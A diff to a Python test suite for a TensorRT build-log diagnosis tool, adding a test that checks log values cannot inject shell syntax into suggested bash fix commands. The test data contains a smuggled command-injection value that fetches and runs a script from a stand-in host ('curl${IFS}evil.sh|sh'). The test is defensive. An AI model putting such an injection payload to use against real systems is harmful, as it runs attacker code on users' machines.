@@ -18,7 +18,7 @@ import zlib
 from pathlib import Path
 
 import pytest
-from conftest import (
+from rel_helpers import (
     NOISE_LINE,
     OOM_ID,
     OOM_LINE,
@@ -104,7 +104,7 @@ def test_no_read_permission_cli(tmp_path: Path) -> None:
     import subprocess
     import sys
 
-    from conftest import ROOT, child_env
+    from rel_helpers import ROOT, child_env
 
     path = tmp_path / "build.log"
     path.write_text(OOM_LOG)
@@ -482,3 +482,26 @@ def test_markdown_report_carries_no_control_characters(fmt: tuple[str, str], tmp
     path.write_text(OOM_LINE + " " + HOSTILE_TAIL + "\n", encoding="utf-8")
     out = assert_report(trt_why(*fmt, str(path)), (1,))
     assert not [c for c in CONTROL if c in out]
+
+
+# -- values from the log inside fix commands --------------------------------------------------------------
+
+@pytest.mark.xfail(strict=True, reason="core/ranking.py fill() puts values captured from the log into fix commands "
+                   "verbatim: a hostile node name like '/x;curl${IFS}evil.sh|sh;#/act/Sigmoid' becomes shell syntax "
+                   "in the `bash` command a user (or a chat bot's user) copies and runs; it should be shlex-quoted")
+def test_captured_values_cannot_break_out_of_a_bash_fix_command(engine) -> None:  # type: ignore[no-untyped-def]
+    import shlex
+
+    node = "/x;curl${IFS}evil.sh|sh;#/act/Sigmoid"
+    log = ("[11/02/2023-10:13:05] [E] [TRT] 10: Could not find any implementation for node /model.2/cv1/conv/Conv"
+           f" + PWN(PWN({node}), /model.2/cv1/act/Mul).\n")
+    report = api.diagnose(log, trt_version="8.6.1", engine=engine)
+    commands = [step.command.code for d in report.diagnoses for fix in d.fixes for step in fix.detail
+                if step.command and step.command.lang == "bash" and "Sigmoid" in step.command.code]
+    assert commands, "the entry no longer fills the node into a command: rewrite this test"
+    for code in commands:
+        lexer = shlex.shlex(code, posix=True, punctuation_chars=True)  # unquoted ; | & split off as operators
+        lexer.whitespace_split = True
+        words = list(lexer)
+        assert any(node in word for word in words), (code, words)
+        assert not [w for w in words if w in (";", "|", "&&", "||", "&")], (code, words)
